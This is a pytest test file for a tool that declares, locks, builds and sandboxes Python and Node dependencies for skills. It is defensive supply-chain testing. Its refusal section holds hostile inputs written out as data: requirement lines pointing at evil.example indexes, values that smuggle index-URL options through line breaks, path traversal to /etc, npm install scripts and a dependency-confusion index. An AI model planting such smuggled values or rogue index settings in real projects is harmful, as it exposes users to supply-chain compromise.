"""Dependencies: declared in every way, locked and built, used without a network, refused where they are bad.

The index and the registry are real servers on loopback with packages made for the test; the packages that
people use most are tried in the long form (EXECUTOR_SOAK=1).
"""

from __future__ import annotations

import asyncio
import importlib.metadata
import inspect
import json
import os
import re
import shlex
import shutil
import subprocess
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import xmltodict
import yaml

from executor import AsyncExecutor, DependencyError, ExecResult, Settings
from executor.cli import app
from executor.deps import building, locks, programs
from executor.deps.declared import declared
from executor.deps.layers import LayerStore
from executor.workspace.staging import Stager
from tests.conformance.index import Index
from tests.conformance.probes import eventually

FRONT = "---\nname: {name}\ndescription: Uses packages.\n{more}---\nRun scripts/a.py.\n"
SCRIPT = "import shapes, sys\nprint(shapes.area(2), shapes.__file__)\n"
NEEDS = ["shapes>=1", "colours"]


@pytest.fixture(scope="module")
def index(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Index]:
    made = Index(tmp_path_factory.mktemp("index"))
    made.start()
    for version in ("1.0", "2.0"):
        text = f"import colours\ndef area(side): return side * side\ndef main(): print('shapes {version}')\n"
        made.wheel("shapes", version, {"shapes.py": text}, {"draw": "shapes:main"})
    made.wheel(
        "colours",
        "1.0",
        {
            "colours/__init__.py": "RED = 1\n",
            "colours/__main__.py": "print('red')\n",
            # It may put files anywhere in its prefix: where the layer has its own, they count for nothing.
            "colours-1.0.data/data/pyvenv.cfg": "home = /nowhere\n",
            "colours-1.0.data/data/node_modules/left/index.js": "module.exports = 'not left'\n",
        },
    )
    made.package("left", "1.0.0", {"index.js": "module.exports = 'left 1'\n"}, main="index.js")
    made.package("left", "2.0.0", {"index.js": "module.exports = 'left 2'\n"}, main="index.js")
    made.package(
        "only-esm",
        "1.0.0",
        {
            "index.js": "import left from 'left'; export const word = 'esm, ' + left\n",
            "cli.js": "#!/usr/bin/env node\nconsole.log('command of esm')\n",
        },
        type="module",
        exports="./index.js",
        bin={"esm-word": "./cli.js"},
        dependencies={"left": "^1.0.0"},
    )
    yield made
    made.stop()


OURS = ("UV_DEFAULT_INDEX", "UV_NO_CONFIG", "npm_config_registry", "npm_config_replace_registry_host")


@pytest.fixture(autouse=True)
def configured(index: Index, monkeypatch: pytest.MonkeyPatch) -> None:
    """The operator's configuration: our index and our registry, and no other."""
    for name in list(os.environ):
        if name.startswith(("UV_", "PIP_")) or name.lower().startswith("npm_config"):
            monkeypatch.delenv(name)
    for name, value in zip(OURS, (f"{index.url}/simple", "1", index.url, "always"), strict=True):
        monkeypatch.setenv(name, value)


@pytest.fixture
def store() -> Iterator[LayerStore]:
    """A store where a session's own uid can reach it."""
    folder = Path(tempfile.mkdtemp(dir="/var/tmp", prefix="executor-layers-"))
    folder.chmod(0o755)
    made = LayerStore(folder)
    made.prepare()
    yield made
    for path in (made.folder, made.compiled):
        path.chmod(0o755)
    shutil.rmtree(folder)


def a_skill(root: Path, name: str, files: dict[str, str], more: str = "") -> Path:
    for path, text in {"SKILL.md": FRONT.format(name=name, more=more), **files}.items():
        (root / name / path).parent.mkdir(parents=True, exist_ok=True)
        (root / name / path).write_text(text)
    return root / name


WAYS = ("requirements.txt", "pyproject.toml", "a script block", "metadata")


def declaring(root: Path, way: str, specs: list[str], script: str) -> Path:
    """A skill that declares the same in one of four ways."""
    listed = ", ".join(f'"{spec}"' for spec in specs)
    lines = "".join(f"# {line}\n" for line in ("/// script", f"dependencies = [{listed}]", "///"))
    files = {
        "requirements.txt": {"requirements.txt": "# what it needs\n" + "  # a line\n".join([*specs, ""])},
        "pyproject.toml": {
            "pyproject.toml": f'[project]\nname = "x"\nversion = "1"\ndependencies = [{listed}]\n'
        },
        "a script block": {"scripts/a.py": lines + script},
        "metadata": {},
    }
    more = f"metadata:\n  claw:\n    requires:\n      pip: [{listed}]\n" if way == "metadata" else ""
    return a_skill(root, "plots", {"scripts/a.py": script, **files[way]}, more)


@pytest.mark.parametrize("way", WAYS)
def test_each_way_to_declare_says_the_same(way: str, tmp_path: Path) -> None:
    found = declared(declaring(tmp_path, way, NEEDS, SCRIPT))
    assert sorted(item.spec for item in found.python) == sorted(NEEDS)
    assert not found.refused and not found.guesses


class Desk:
    """Locks, builds and runs on one runtime, with one store."""

    def __init__(self, runtime: str, store: LayerStore, root: Path, deps: str = "locked") -> None:
        self.store = store
        self.settings = Settings.model_validate(
            {"runtime": runtime, "skills": (str(root),), "layers_dir": str(store.folder.parent), "deps": deps}
        )

    def lock(self, skill: Path, **options: object) -> locks.Lock:
        async def work() -> locks.Lock:
            async with AsyncExecutor(settings=self.settings) as executor, executor.layers.bench() as bench:
                lock = await building.lock(skill, bench, self.store, **options)  # type: ignore[arg-type]
                await building.fetch(skill, lock, bench, self.store)
                locks.write(skill / locks.FILE, lock)
                return lock

        return asyncio.run(work())

    def build(self, skill: Path, **options: object) -> None:
        async def work() -> None:
            async with AsyncExecutor(settings=self.settings) as executor, executor.layers.bench() as bench:
                lock = locks.read(skill / locks.FILE)
                assert lock is not None
                await building.build(skill, lock, bench, self.store, **options)  # type: ignore[arg-type]

        asyncio.run(work())

    def run(self, *steps: tuple[str, str]) -> list[ExecResult]:
        """(skill, command) in one session."""

        async def work() -> list[ExecResult]:
            async with AsyncExecutor(settings=self.settings) as executor, executor.session() as session:
                return [await session.exec(command, skill=skill) for skill, command in steps]

        return asyncio.run(work())


@pytest.fixture
def desk(runtime: str, executor: object, store: LayerStore, tmp_path: Path) -> Desk:
    return Desk(runtime, store, tmp_path)


def test_a_skill_gets_what_it_declares_and_nothing_else_does(desk: Desk, tmp_path: Path) -> None:
    skill = a_skill(tmp_path, "plots", {"scripts/a.py": SCRIPT, "requirements.txt": "shapes>=1\ncolours\n"})
    a_skill(tmp_path, "bare", {"scripts/a.py": SCRIPT})
    desk.lock(skill)
    with pytest.raises(DependencyError, match="executor deps build plots"):
        desk.run(("plots", "python3 scripts/a.py"))
    desk.build(skill, offline=True)  # locking has fetched all of it
    steps = {
        "python3 scripts/a.py": "4 /opt/layers/",
        "python scripts/a.py": "4 /opt/layers/",
        "draw": "shapes 2.0",
        "python3 -m colours": "red",
        "ls $(dirname $(dirname $(which draw)))/lib/python3*/site-packages/__pycache__": "shapes.cpython-",
        "python3 -v -c 'import shapes' 2>&1 | grep 'code object from.*shapes'": "/tmp/.cache/python/opt/",
        "touch /opt/layers/x || touch $(dirname $(which draw))/x || echo refused": "refused",
        "ls /opt/layers || echo not to be listed": "not to be listed",
        "cd /workspace && python3 -c 'import shapes; print(shapes.area(3))'": "9",
    }
    results = desk.run(*[("plots", command) for command in steps], ("bare", "python3 scripts/a.py"))
    *results, bare = results
    for (command, expected), result in zip(steps.items(), results, strict=True):
        assert expected in result.stdout, (command, result.stdout, result.stderr)
    assert bare.exit_code == 1 and "No module named 'shapes'" in bare.stderr  # the layer is the skill's own
    assert any("executor deps lock bare" in warning for warning in bare.warnings)


def test_two_skills_with_conflicting_versions_in_one_session(desk: Desk, tmp_path: Path) -> None:
    for name, version in (("old", "1.0"), ("new", "2.0")):
        files = {
            "requirements.txt": f"shapes=={version}\ncolours\n",
            "package.json": json.dumps({"dependencies": {"left": f"^{version}.0"}}),
        }
        skill = a_skill(tmp_path, name, files)
        desk.lock(skill)
        desk.build(skill)
    command = "draw; node -p 'require(\"left\")'"
    found = desk.run(("old", command), ("new", command), ("old", command))
    assert [result.stdout for result in found] == [
        "shapes 1.0\nleft 1\n",
        "shapes 2.0\nleft 2\n",
        "shapes 1.0\nleft 1\n",
    ]


def test_packages_of_node_for_both_kinds_of_module(desk: Desk, tmp_path: Path) -> None:
    skill = a_skill(
        tmp_path,
        "words",
        {
            "package.json": json.dumps({"type": "module", "dependencies": {"only-esm": "^1", "left": "^1"}}),
            "scripts/a.mjs": "import { word } from 'only-esm'; console.log(word)\n",
            "scripts/b.cjs": "console.log(require('left'))\n",
            "scripts/c.ts": "const n: string = (await import('only-esm')).word; console.log(n)\n",
        },
    )
    desk.lock(skill)
    desk.build(skill)
    steps = {
        "node scripts/a.mjs": "esm, left 1",
        "node scripts/b.cjs": "left 1",
        "node scripts/c.ts": "esm, left 1",
        "esm-word": "command of esm",
        "cd /workspace && node -p 'require(\"left\")'": "left 1",
        "echo x > node_modules/left/index.js || echo refused": "refused",
    }
    for (command, expected), result in zip(
        steps.items(), desk.run(*[("words", command) for command in steps]), strict=True
    ):
        assert result.stdout.strip().endswith(expected), (command, result.stdout, result.stderr)


def test_automatic_dependencies_need_no_command(
    runtime: str, executor: object, store: LayerStore, tmp_path: Path
) -> None:
    a_skill(tmp_path, "plots", {"scripts/a.py": SCRIPT, "requirements.txt": "shapes==1.0\ncolours\n"})
    store.compiled.rmdir()
    store.folder.rmdir()  # nothing was ever built on this machine
    desk = Desk(runtime, store, tmp_path, deps="auto")
    (found,) = desk.run(("plots", "draw"))
    assert found.stdout == "shapes 1.0\n"
    assert not (tmp_path / "plots" / locks.FILE).exists()  # it is kept in the store
    off = Desk(runtime, store, tmp_path, deps="off")
    (found,) = off.run(("plots", "draw"))
    assert found.exit_code == 127


def test_a_lock_that_is_older_than_the_declaration(desk: Desk, tmp_path: Path) -> None:
    skill = a_skill(tmp_path, "plots", {"requirements.txt": "colours\n"})
    desk.lock(skill)
    desk.build(skill)
    (skill / "requirements.txt").write_text("colours\nshapes\n")
    with pytest.raises(DependencyError, match="executor deps lock plots"):
        desk.run(("plots", "true"))


# --- what is refused ----------------------------------------------------------------------------------------

CANARY = "executor-canary"
EVIL = f"import pathlib; pathlib.Path('/var/tmp/{CANARY}').touch()"
BREAK = r"""shapes; os_name == 'x"%s#\n--index-url http://evil.example/\ncolours; os_name=="'"""
REFUSED_TEXTS = {
    "a URL": {"requirements.txt": "shapes @ https://example.org/shapes.whl\n"},
    "a path": {"requirements.txt": "./vendored\n"},
    "git": {"requirements.txt": "git+https://example.org/shapes\n"},
    "an editable": {"requirements.txt": "-e .\n"},
    "an index of its own": {"requirements.txt": "--index-url http://evil.example/simple\nshapes\n"},
    "an extra index": {"requirements.txt": "--extra-index-url http://evil.example/simple\nshapes\n"},
    "a folder of links": {"requirements.txt": "-f .\nshapes\n"},
    "a file outside": {"requirements.txt": "-r ../../etc/requirements.txt\n"},
    "sources of uv": {
        "pyproject.toml": '[project]\nname="x"\nversion="1"\ndependencies=["shapes"]\n'
        '[tool.uv.sources]\nshapes = { url = "https://evil.example/s.whl" }\n'
    },
    "a git dependency of npm": {"package.json": '{"dependencies": {"left": "git+ssh://evil.example/left"}}'},
    "a file dependency of npm": {"package.json": '{"dependencies": {"left": "file:../left"}}'},
    "a tarball of npm": {"package.json": '{"dependencies": {"left": "https://evil.example/left.tgz"}}'},
    "an alias of npm": {"package.json": '{"dependencies": {"left": "npm:evil@1"}}'},
    "a name with a path": {"package.json": '{"dependencies": {"../left": "1"}}'},
    "broken TOML": {"pyproject.toml": "[project\n"},
    "broken JSON": {"package.json": '{"dependencies": '},
    "deep JSON": {"package.json": "[" * 100_000},
    # Escapes in a marker's text are read: written for uv it would be three lines, one of them an option.
    "a line break in a marker": {
        "pyproject.toml": "[project]\ndependencies = [" + json.dumps(BREAK % " ") + "]\n"
    },
    "a line break in requirements.txt": {"requirements.txt": BREAK % r"\t"},
    "more than anybody needs": {"requirements.txt": "".join(f"p{i}\n" for i in range(100_000))},
    "more of Node": {"package.json": json.dumps({"dependencies": {f"p{i}": "1" for i in range(20_000)}})},
    "a key of many parts": {"pyproject.toml": ".".join(["a"] * 100) + " = 1\n"},  # square in memory
    "a key of many parts in a block": {"a.py": f"# /// script\n# {'.'.join(['a'] * 100)} = 1\n# ///\n"},
    "files that lead to each other": {
        f"requirements{i}.txt": f"-r requirements{i + 1}.txt" for i in range(1200)
    },
    "a number of many digits": {"pyproject.toml": f'[tool.poetry.dependencies]\na = "^{"9" * 5000}"\n'},
    "an option in a requirement": {"requirements.txt": "shapes --config-settings=x=y\n"},
}


@pytest.mark.parametrize("name", REFUSED_TEXTS)
def test_declarations_that_lead_elsewhere_are_refused(name: str, tmp_path: Path) -> None:
    found = declared(a_skill(tmp_path, "bad", REFUSED_TEXTS[name]))
    assert found.refused, found


@pytest.fixture(scope="module")
def bad_index(index: Index) -> Index:
    index.sdist("only-source", "1.0", EVIL)
    index.wheel("source-newer", "1.0", {"source_newer.py": ""})
    index.sdist("source-newer", "2.0", EVIL)
    script = {"postinstall": f"touch /var/tmp/{CANARY}", "install": f"touch /var/tmp/{CANARY}"}
    index.package("scripted", "1.0.0", {"index.js": "module.exports = 'it works'\n"}, scripts=script)
    return index


@pytest.fixture
def canary() -> Iterator[Path]:
    path = Path("/var/tmp", CANARY)
    path.unlink(missing_ok=True)
    yield path
    assert not path.exists(), "something of a package was executed on the host"


@pytest.fixture
def local_desk(store: LayerStore, tmp_path: Path) -> Desk:
    """What is refused on the host is refused before any runtime matters."""
    return Desk("local", store, tmp_path)


def test_source_distributions_are_never_built(
    bad_index: Index, local_desk: Desk, canary: Path, tmp_path: Path
) -> None:
    skill = a_skill(tmp_path, "bad", {"requirements.txt": "only-source\n"})
    with pytest.raises(DependencyError, match=r"wheels?"):
        local_desk.lock(skill)
    skill = a_skill(tmp_path, "good", {"requirements.txt": "source-newer\n"})
    assert [wheel.version for wheel in local_desk.lock(skill).python] == ["1.0"]


def test_the_canary_of_source_distributions_sings(bad_index: Index, tmp_path: Path) -> None:
    """The control: with building allowed, that setup.py runs on this machine."""
    from executor.deps.pypi import uv

    path = Path("/var/tmp", CANARY)
    argv = [uv(), "pip", "install", "--target", str(tmp_path / "t"), "only-source", "--no-build-isolation"]
    env = {**os.environ, "UV_CACHE_DIR": str(tmp_path / "cache")}
    subprocess.run(argv, env=env, capture_output=True, check=False)
    assert path.exists()
    path.unlink()


def test_install_scripts_of_npm_are_refused_and_never_run(
    bad_index: Index, desk: Desk, canary: Path, tmp_path: Path
) -> None:
    skill = a_skill(tmp_path, "bad", {"package.json": '{"dependencies": {"scripted": "1.0.0"}}'})
    with pytest.raises(DependencyError, match="scripted would run a script") as caught:
        desk.lock(skill)
    assert "--without-scripts scripted" in caught.value.hint
    desk.lock(skill, unscripted=["scripted"])
    desk.build(skill)
    (found,) = desk.run(("bad", "node -p 'require(\"scripted\")'"))
    assert found.stdout == "it works\n"


def test_a_file_that_changed_on_the_index_is_refused(
    index: Index, local_desk: Desk, store: LayerStore, tmp_path: Path
) -> None:
    index.wheel("turncoat", "1.0", {"turncoat.py": "GOOD = 1\n"})
    index.package("turncoat", "1.0.0", {"index.js": ""})
    python = a_skill(tmp_path, "python", {"requirements.txt": "turncoat\n"})
    node = a_skill(tmp_path, "node", {"package.json": '{"dependencies": {"turncoat": "1.0.0"}}'})
    local_desk.lock(python)
    local_desk.lock(node)
    index.wheel("turncoat", "1.0", {"turncoat.py": "EVIL = 1\n"})
    index.package("turncoat", "1.0.0", {"index.js": "evil"})
    shutil.rmtree(store.cache)  # as on a machine that only has the lock
    store.prepare()
    for skill in (python, node):
        lock = locks.read(skill / locks.FILE)
        assert lock is not None
        with pytest.raises(DependencyError, match="not the one that was locked"):
            local_desk.build(skill)
        assert not store.built(lock.digest)
    left = [name for name in _names(store) if name.startswith(".")]
    assert left == []


def _names(store: LayerStore) -> list[str]:
    mode = store.folder.stat().st_mode
    store.folder.chmod(0o755)
    names = [name for folder in (store.folder, store.compiled) for name in os.listdir(folder)]
    store.folder.chmod(mode)
    return [name for name in names if name != "pycache"]


def test_a_hash_that_the_skill_demands(index: Index, local_desk: Desk, tmp_path: Path) -> None:
    wrong = "sha256:" + "0" * 64
    skill = a_skill(tmp_path, "bad", {"requirements.txt": f"colours==1.0 --hash={wrong}\n"})
    with pytest.raises(DependencyError, match=r"colours 1\.0"):
        local_desk.lock(skill)


def test_a_name_that_two_indexes_have_is_refused(
    index: Index, local_desk: Desk, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Dependency confusion: the second index offers a higher version of a name of the first."""
    other = Index(tmp_path / "other")
    other.folder.mkdir()
    other.wheel("colours", "99.0", {"colours.py": "EVIL = 1\n"})
    other.start()
    try:
        monkeypatch.setenv("UV_INDEX", f"ours={index.url}/simple")
        monkeypatch.setenv("UV_DEFAULT_INDEX", f"{other.url}/simple")
        skill = a_skill(tmp_path, "plots", {"requirements.txt": "colours\n"})
        with pytest.raises(DependencyError, match="more than one of your indexes") as caught:
            local_desk.lock(skill)
        assert other.url in str(caught.value) and "--first-index" in caught.value.hint
        assert [wheel.version for wheel in local_desk.lock(skill, first_index=True).python] == ["1.0"]
        monkeypatch.setenv("UV_INDEX_STRATEGY", "unsafe-best-match")
        with pytest.raises(DependencyError, match="UV_INDEX_STRATEGY"):
            local_desk.lock(skill, first_index=True)
    finally:
        other.stop()


def test_guesses_are_reported_and_not_taken(local_desk: Desk, tmp_path: Path) -> None:
    skill = a_skill(tmp_path, "plots", {"scripts/a.py": "import shapes, yaml, os, b\n", "scripts/b.py": ""})
    with pytest.raises(DependencyError, match=r"shapes \(scripts/a.py:1 .*pyyaml") as caught:
        local_desk.lock(skill)
    assert "--guess" in caught.value.hint
    (skill / "scripts/a.py").write_text("import shapes\n")
    assert [wheel.name for wheel in local_desk.lock(skill, guess=True).python] == ["shapes"]


PACKAGE = {"version": "1.0.0", "integrity": "sha512-AA=="}
HOSTILE_LOCKS = {
    "not JSON": lambda lock: "{",
    "deep": lambda lock: "[" * 100_000,
    "a newer format": lambda lock: json.dumps({**lock, "format": 99}),
    "an option as a version": lambda lock: json.dumps(
        {**lock, "python": [{"name": "x", "version": "1 --index-url http://evil", "hashes": ["sha256:00"]}]}
    ),
    "a line break in a name": lambda lock: json.dumps(
        {**lock, "python": [{"name": "x\n--pre", "version": "1", "hashes": ["sha256:00"]}]}
    ),
    "an option as a hash": lambda lock: json.dumps(
        {**lock, "python": [{"name": "x", "version": "1", "hashes": ["sha256:00 --pre"]}]}
    ),
    "a package of Node elsewhere": lambda lock: json.dumps({**lock, "node": {"../../etc": PACKAGE}}),
    "a way out of node_modules": lambda lock: json.dumps(
        {**lock, "node": {"node_modules/a/../../../x": PACKAGE}}
    ),
    "a repository of a package": lambda lock: json.dumps(
        {
            **lock,
            "node": {
                "node_modules/a": {**PACKAGE, "more": {"dependencies": {"b": "git+ssh://evil.example/b"}}}
            },
        }
    ),
    "a package under the name of another": lambda lock: json.dumps(
        {**lock, "node": {"node_modules/left": {**PACKAGE, "more": {"name": "evil"}}}}
    ),
    "a folder outside": lambda lock: json.dumps({**lock, "node_folder": "../../etc"}),
    "an absolute folder": lambda lock: json.dumps({**lock, "node_folder": "/etc"}),
}


@pytest.mark.parametrize("name", HOSTILE_LOCKS)
def test_a_hostile_lock_is_refused(name: str, tmp_path: Path) -> None:
    target = {"python": "3.11", "machine": "x86_64", "libc": "glibc 2.36", "node": "24.1.0"}
    places = ("node_modules/left", "node_modules/@a/left/node_modules/b.js")
    more = {"dependencies": {"b": "^1 || >=2 <3", "c": "npm:@a/d@~1", "d": "latest", "e": ""}}
    node = {place: {**PACKAGE, "more": more} for place in places}
    node["node_modules/c"] = {**PACKAGE, "more": {"name": "@a/d"}}  # which `left` asks for
    good = {"target": target, "declared": {}, "node": node, "node_folder": "b\u00fcro/.web"}
    path = tmp_path / locks.FILE
    path.write_text(json.dumps(good))
    assert locks.read(path) is not None  # the control
    path.write_text(HOSTILE_LOCKS[name](good))
    with pytest.raises(DependencyError, match="executor deps lock"):
        locks.read(path)


QUADRATIC = {
    "blanks before a hash": {"requirements.txt": "a" + " " * 500_000 + "b\n"},
    "install lines": {"a.md": "".join(f"pip install a{i}\n" for i in range(50_000))},
    "blanks after import": {"a.js": "import" + " " * 500_000 + "b\n"},
    "script blocks without an end": {"a.py": "# /// script\n" * 80_000},
    "parts of a text": {"a.py": 'f"' + "{a}" * 300_000 + '"\n'},
    "blanks in a list": {"SKILL.md": FRONT.format(name="x", more=f"pip: 'a{' ' * 50_000}b'\n")},
}


@pytest.mark.parametrize("name", QUADRATIC)
def test_a_file_takes_no_longer_than_its_length_allows(name: str, tmp_path: Path) -> None:
    """Most of these took minutes or hours when the time grew with the square of the length."""
    declared(a_skill(tmp_path, "slow", QUADRATIC[name]))


def test_a_lock_that_is_no_file_is_refused(tmp_path: Path) -> None:
    (tmp_path / locks.FILE).symlink_to("/etc/passwd")
    with pytest.raises(DependencyError):
        locks.read(tmp_path / locks.FILE)
    (tmp_path / locks.FILE).unlink()
    os.mkfifo(tmp_path / locks.FILE)
    with pytest.raises(DependencyError):
        locks.read(tmp_path / locks.FILE)
    (tmp_path / locks.FILE).unlink()
    (tmp_path / locks.FILE).mkdir()
    with pytest.raises(DependencyError):
        locks.read(tmp_path / locks.FILE)


def test_layers_are_shared_listed_and_removed(local_desk: Desk, store: LayerStore, tmp_path: Path) -> None:
    one = a_skill(tmp_path, "one", {"requirements.txt": "colours\n"})
    two = a_skill(
        tmp_path, "two", {"pyproject.toml": '[project]\nname="t"\nversion="1"\ndependencies=["colours"]\n'}
    )
    digests = {local_desk.lock(skill).digest for skill in (one, two)}
    assert len(digests) == 1
    local_desk.build(one)
    assert [result.stdout for result in local_desk.run(("two", "python3 -m colours"))] == ["red\n"]
    (digest,) = digests
    assert digest in [layer["digest"] for layer in store.records()]
    assert digest not in store.clean(3600)
    assert digest in store.clean(0)
    assert store.records() == [] and _names(store) == []
    with pytest.raises(DependencyError, match="executor deps build"):
        local_desk.run(("one", "true"))


def test_the_command_of_a_hint_works_when_it_is_pasted(
    local_desk: Desk, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Whether the skill was given by its path or by its name in a root, with the options it needs."""
    monkeypatch.setenv("EXECUTOR_LAYERS_DIR", local_desk.settings.layers_dir)
    monkeypatch.chdir(tmp_path)
    skill = a_skill(tmp_path / "my skills", "plots", {"scripts/a.py": "import colours; print('works')\n"})

    def run(*words: str) -> tuple[int, dict[str, Any]]:
        status = app.main(["run", *words, "--runtime", "local", "--json", "--", "python3", "scripts/a.py"])
        return status, json.loads(capsys.readouterr().out)

    def paste(text: str) -> None:
        for line in text.split(" && "):
            program, *words = shlex.split(line)
            assert (program, app.main(words)) == ("executor", 0)
        capsys.readouterr()

    _, found = run("plots", "--skills", "my skills")
    command = found["warnings"][0].partition("then: ")[2]
    assert command.startswith("executor deps lock plots --skills 'my skills' --runtime local && ")
    (skill / "requirements.txt").write_text("colours\n")
    _, found = run("plots", "--skills", "my skills")
    assert found["warnings"][0].endswith(f"'colours' is declared and not locked: {command}")
    paste(command)
    (skill / "requirements.txt").write_text("colours\nshapes\n")
    status, found = run("./my skills/plots")
    assert status == 125
    assert found["error"]["hint"].startswith("executor deps lock './my skills/plots' --runtime local && ")
    (skill / "requirements.txt").write_text("colours\n")
    local_desk.store.clean(0)
    _, found = run("./my skills/plots")
    paste(found["error"]["hint"])
    assert run("./my skills/plots")[1]["stdout"] == "works\n"


def test_the_example_of_the_documentation_runs(
    index: Index,
    store: LayerStore,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capfd: pytest.CaptureFixture[str],
) -> None:
    """docs/skills.md: every file of it is written, and every command of it is run, on both runtimes."""
    text = (Path(__file__).parents[2] / "docs" / "skills.md").read_text()
    files = re.findall(r"^`(feed-table/[^`\n]+)`\n\n(`{3,})\w+\n(.*?)^\2$", text, re.MULTILINE | re.DOTALL)
    assert [path for path, _, _ in files] == [
        "feed-table/SKILL.md",
        "feed-table/scripts/table.py",
        "feed-table/tests/cases.yaml",
    ]
    for path, _, content in files:
        (tmp_path / path).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / path).write_text(content)
    case = yaml.safe_load((tmp_path / "feed-table" / "tests" / "cases.yaml").read_text())["cases"][0]
    (tmp_path / "feed.xml").write_text(case["inputs"]["inputs/feed.xml"]["text"])
    # The package that it needs, as it is installed here for the tests.
    version = importlib.metadata.version("xmltodict")
    index.wheel("xmltodict", version, {"xmltodict.py": inspect.getsource(xmltodict)})
    monkeypatch.setenv("EXECUTOR_LAYERS_DIR", str(store.folder.parent))
    monkeypatch.chdir(tmp_path)
    for line in re.findall(r"^\$ (.*feed-table.*)$", text, re.MULTILINE):
        program, *words = shlex.split(line)
        if program == "executor":
            assert app.main(words) == 0, (line, capfd.readouterr())
        else:
            subprocess.run([program, *words], check=True)
    assert "4 passed" in capfd.readouterr().out
    assert (tmp_path / "result" / "out" / "entries.csv").read_text() == (
        'title,link,date\n"Bread, and salt",https://example.org/1,\n'
    )


def test_a_program_ends_with_the_caller_that_is_cancelled(tmp_path: Path) -> None:
    """Else an index that does not answer keeps the process alive. Its children end too, as npm's have to."""
    told = tmp_path / "pid"
    argv = ["sh", "-c", 'sleep 1000 & echo $! > "$0.new"; mv "$0.new" "$0"; wait', str(told)]

    async def cancelled() -> None:
        task = asyncio.ensure_future(
            programs.in_thread(lambda: programs.run(argv, tmp_path, dict(os.environ), (), "it failed"))
        )
        while not told.exists():  # noqa: ASYNC110  another process makes it
            await asyncio.sleep(0.01)
        task.cancel()
        with pytest.raises(asyncio.CancelledError):
            await task

    asyncio.run(cancelled())
    state = Path(f"/proc/{told.read_text().strip()}/stat")
    # Killed, and on a busy machine not yet gone.
    assert eventually(lambda: not state.exists() or state.read_text().rpartition(")")[2].split()[0] in "ZX")


def test_a_store_that_cannot_be_made_is_told(store: LayerStore, tmp_path: Path) -> None:
    """The bench opens nothing then, and a sandbox of `auto` begins without layers."""
    (tmp_path / "file").touch()
    broken = LayerStore(tmp_path / "file")
    with pytest.raises(DependencyError, match="layers cannot be kept: Not a directory"):
        broken.prepare()
    assert (broken.mounted("auto"), broken.mounted("off"), store.mounted("off")) == ("", "", "")
    assert store.mounted("auto") == store.mounted("locked") == str(store.folder)


def test_a_digest_does_not_depend_on_where_and_by_whom(store: LayerStore) -> None:
    """The staging digest names a lock in the store: it is the same for equal folders."""
    assert (
        Stager().skill(Path("skills/sales-report").absolute(), most_bytes=1 << 30).digest
        == Stager().skill(Path("skills/sales-report").absolute(), most_bytes=1 << 30).digest
    )


# --- the long form ------------------------------------------------------------------------------------------

PLOT = "import numpy, pandas, matplotlib.pyplot as p\np.plot([1, 2]); p.savefig('out/made', format='png')\n"
MARKED = """import { marked } from 'marked'
import fs from 'fs'
fs.writeFileSync('out/made', marked('# x'))
"""
DOCX = """const { Document, Packer, Paragraph } = require('docx')
const text = new Document({ sections: [{ children: [new Paragraph('x')] }] })
Packer.toBuffer(text).then((data) => require('fs').writeFileSync('out/made', data))
"""
# How it is declared → (the command, how the file begins that it makes). Of Python: `WAYS`.
NODE = {
    "marked": ("scripts/a.mjs", MARKED, "node scripts/a.mjs", b"<h1>"),
    "docx": ("scripts/a.cjs", DOCX, "node scripts/a.cjs", b"PK"),
}


@pytest.fixture(scope="module")
def downloads() -> Iterator[Path]:
    """What was fetched from the real index: once for all tests, on the file system of the stores."""
    folder = Path(tempfile.mkdtemp(dir="/var/tmp", prefix="executor-downloads-"))
    yield folder
    shutil.rmtree(folder)


@pytest.mark.skipif(not os.environ.get("EXECUTOR_SOAK"), reason="fetches 60 MB: make soak")
@pytest.mark.parametrize("way", [*WAYS, *NODE])
def test_the_packages_that_people_use(
    way: str,
    desk: Desk,
    store: LayerStore,
    downloads: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Locked and fetched with a network; built and used without one; the second build finds it built."""
    if way in NODE:
        path, text, command, begins = NODE[way]
        skill = a_skill(
            tmp_path, "plots", {path: text, "package.json": json.dumps({"dependencies": {way: "*"}})}
        )
    else:
        command, begins = "python3 scripts/a.py", b"\x89PNG"
        skill = declaring(tmp_path, way, ["numpy", "pandas>=2", "matplotlib"], PLOT)
    shutil.rmtree(store.cache)
    store.cache.symlink_to(downloads)
    store.prepare()
    for name in (*OURS, "no_proxy", "NO_PROXY"):
        monkeypatch.delenv(name, raising=False)
    desk.lock(skill)
    for name in ("http_proxy", "https_proxy", "HTTPS_PROXY", "ALL_PROXY"):
        monkeypatch.setenv(name, "http://127.0.0.1:1")  # nobody is there
    desk.build(skill, offline=True)
    with monkeypatch.context() as patch:
        patch.setattr(programs, "run", lambda *_words: pytest.fail("it was built"))
        monkeypatch.setenv("EXECUTOR_LAYERS_DIR", str(store.folder.parent))
        began = time.monotonic()
        assert app.main(["deps", "build", str(skill), "--runtime", desk.settings.runtime]) == 0
        print(f"the second build took {1000 * (time.monotonic() - began):.0f} ms")
    for _ in range(2):
        (found,) = desk.run(("plots", f"{command} && cat out/made"))
        assert found.kept("stdout").startswith(begins), found
